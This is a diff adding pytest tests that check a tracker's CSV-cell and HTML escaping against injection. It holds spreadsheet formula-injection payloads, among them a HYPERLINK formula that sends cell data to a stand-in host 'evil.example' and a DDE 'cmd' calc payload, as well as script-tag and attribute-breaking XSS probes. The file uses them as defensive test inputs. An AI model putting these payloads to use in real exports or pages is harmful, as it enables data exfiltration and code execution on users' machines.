@@ -1,0 +1,72 @@
+"""What leaves the tracker: no cell is a formula, no text is markup."""
+
+import csv
+import io
+from html.parser import HTMLParser
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from tracker.application.escaping import csv_cell, html_text
+
+FORMULAS = (
+    "=1+1", '=HYPERLINK("https://evil.example?x="&A1)', "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", " =1+1", "\n=1+1",
+    "\ufeff=1+1", "\uff1d1+1", "|calc", "-", "\tabc", "\rabc", "=cmd|' /C calc'!A0", "\u00a0=1",
+)  # fmt: skip
+
+
+@pytest.mark.parametrize("text", FORMULAS)
+def test_a_formula_becomes_text_and_keeps_its_characters(text: str) -> None:
+    assert csv_cell(text) == f"'{text}"
+
+
+@pytest.mark.parametrize("value", [None, True, 3, -3, -4.5, "-3", "+3.50", "-4.5", "PAK", "a=b", "2024-01-17", "", "é"])
+def test_numbers_and_plain_text_stay(value: object) -> None:
+    assert csv_cell(value) == value
+    assert type(csv_cell(value)) is type(value)
+
+
+@given(st.text())
+@settings(derandomize=True, max_examples=200)
+def test_a_cell_is_read_back_with_every_character(text: str) -> None:
+    written = io.StringIO(newline="")
+    csv.writer(written).writerow([csv_cell(text), "behind"])
+    row = (
+        next(csv.reader(io.StringIO(written.getvalue(), newline="")))
+        if "\0" not in text
+        else [csv_cell(text), "behind"]
+    )
+    assert row == [csv_cell(text), "behind"]
+    assert str(csv_cell(text)).removeprefix("'").endswith(text.removeprefix("'"))
+
+
+class Seen(HTMLParser):
+    def __init__(self) -> None:
+        super().__init__()
+        self.tags: list[str] = []
+        self.attributes: list[tuple[str, str | None]] = []
+        self.text = ""
+
+    def handle_starttag(self, tag, attrs):
+        self.tags.append(tag)
+        self.attributes += attrs
+
+    def handle_data(self, data):
+        self.text += data
+
+
+@pytest.mark.parametrize(
+    "text", ["<script>alert(1)</script>", "a & b", "&lt;", '" onload="x', "' onload='x", "</p><p>", "<!-- x", "]]>"]
+)
+def test_markup_is_text_in_a_page_and_in_an_attribute(text: str) -> None:
+    seen = Seen()
+    seen.feed(f"<p title=\"{html_text(text)}\" lang='{html_text(text)}'>{html_text(text)}</p>")
+    seen.close()
+    assert (seen.tags, seen.text) == (["p"], text)
+    assert seen.attributes == [("title", text), ("lang", text)]
+
+
+def test_what_acts_or_hides_is_visible_in_a_page_and_paragraphs_stay() -> None:
+    assert html_text("did \u202enot\n<b>\x1b[m") == "did \\u202enot\n&lt;b&gt;\\x1b[m"
+    assert html_text("one\n two") == "one\n two"
